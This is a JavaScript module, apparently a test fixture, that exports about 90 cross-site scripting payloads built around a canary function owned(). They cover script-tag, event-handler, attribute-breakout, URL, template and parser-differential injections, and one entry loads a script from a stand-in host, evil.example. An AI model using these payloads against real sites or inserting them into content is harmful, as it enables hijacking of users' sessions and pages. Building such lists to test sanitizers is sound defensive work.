// Words that would run as a script wherever a page lets words be anything but
// words. Each calls owned(), which no page has; who hears of it knows.

const tags = [
  '<script>owned()</script>',
  '<ScRiPt src=data:text/javascript,owned()></sCrIpT>',
  '<script type=module>owned()</script>',
  '<script>owned()//',
  '</script><script>owned()</script>',
  '</title><script>owned()</script>',
  '</textarea><script>owned()</script>',
  '</style><script>owned()</script>',
  '</noscript><script>owned()</script>',
  '</template><script>owned()</script>',
  '</option></select><script>owned()</script>',
  '--><script>owned()</script><!--',
  ']]><script>owned()</script>',
  '<scr<script>ipt>owned()</scr</script>ipt>',
  '<script\n>owned()</script\t>',
  '<script/x>owned()</script>',
]

const handlers = [
  '<img src=x onerror=owned()>',
  '<img src="x" onerror="owned()">',
  '<IMG SRC=x OnErRoR=owned()>',
  '<img/src=x/onerror=owned()>',
  '<svg onload=owned()>',
  '<svg/onload=owned()//',
  '<svg><script>owned()</script></svg>',
  '<svg><animate onbegin=owned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:owned()"><text x=9 y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>owned()</script></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=owned()>',
  '<body onload=owned()>',
  '<details open ontoggle=owned()>',
  '<input autofocus onfocus=owned()>',
  '<video><source onerror=owned()></video>',
  '<audio src=x onerror=owned()>',
  '<marquee onstart=owned()>',
  '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
  '<iframe src="javascript:parent.owned()"></iframe>',
  '<object data="data:text/html,<script>owned()</script>"></object>',
  '<embed src="data:text/html,<script>owned()</script>">',
  '<form action="javascript:owned()"><button autofocus>x</button></form>',
  '<isindex action=javascript:owned() type=image>',
  '<base href="data:text/javascript,owned()//">',
  '<link rel=stylesheet href="data:text/css,*{color:red!important}">',
  '<meta http-equiv=refresh content="0;url=javascript:owned()">',
  '<style>@import "data:text/css,*{display:none!important}";</style>',
  '<style onload=owned()></style>',
  '<div style="background:url(javascript:owned())">x</div>',
]

// Out of attributes, by every kind of quote and by none.
const attributes = [
  '" onmouseover="owned()" autofocus onfocus="owned()" x="',
  "' onmouseover='owned()' autofocus onfocus='owned()' x='",
  '` onmouseover=owned() x=`',
  ' autofocus onfocus=owned() x=',
  '"><script>owned()</script>',
  "'><script>owned()</script>",
  '"><img src=x onerror=owned()>',
  "'><svg onload=owned()>",
  '&quot;&gt;&lt;script&gt;owned()&lt;/script&gt;',
  '&#34;&#62;&#60;img src=x onerror=owned()&#62;',
  '\\"><script>owned()</script>',
  '" style="animation:x" onanimationstart="owned()',
]

const addresses = [
  'javascript:owned()',
  'JaVaScRiPt:owned()',
  ' javascript:owned()',
  'java\tscript:owned()',
  '&#106;avascript:owned()',
  'javascript://127.0.0.1/%0aowned()',
  'data:text/html,<script>owned()</script>',
  'vbscript:owned()',
  '//evil.example/owned.js',
  'http://evil.example/"><script>owned()</script>',
  '[owned](javascript:owned())',
  '![x](x" onerror="owned())',
]

// For templates, in scripts, in data that scripts read.
const scripts = [
  '{{constructor.constructor("owned()")()}}',
  '${owned()}',
  '{{owned}} {{.}} {{template "main" .}}',
  '<%= owned() %>',
  '";owned();//',
  "';owned();//",
  '\\u003cscript\\u003eowned()\\u003c/script\\u003e',
  '\\";owned();//',
  '</script><!--<script>owned()',
  '"}],"x":"<img src=x onerror=owned()>',
  '__proto__',
  'constructor',
]

// What is read differently twice: parsers, encodings, and directions.
const tricks = [
  '<noscript><p title="</noscript><img src=x onerror=owned()>">',
  '<svg></p><style><a id="</style><img src=x onerror=owned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=owned()>',
  '<xmp><p title="</xmp><svg onload=owned()>">',
  '\uff1cscript\uff1eowned()\uff1c/script\uff1e',
  '\u02b9\u02ba onerror=owned() \u2039script\u203aowned()',
  '\u202e<script>owned()</script>\u202c',
  '<img src=x onerror=\u2028owned()>',
  '+ADw-script+AD4-owned()+ADw-/script+AD4-',
  '<\u200bscript>owned()</script>',
  '%3Cscript%3Eowned()%3C/script%3E',
  'expression(owned()) url(javascript:owned()) } * { color: red } /*',
]

export const payloads = [...tags, ...handlers, ...attributes, ...addresses, ...scripts, ...tricks]
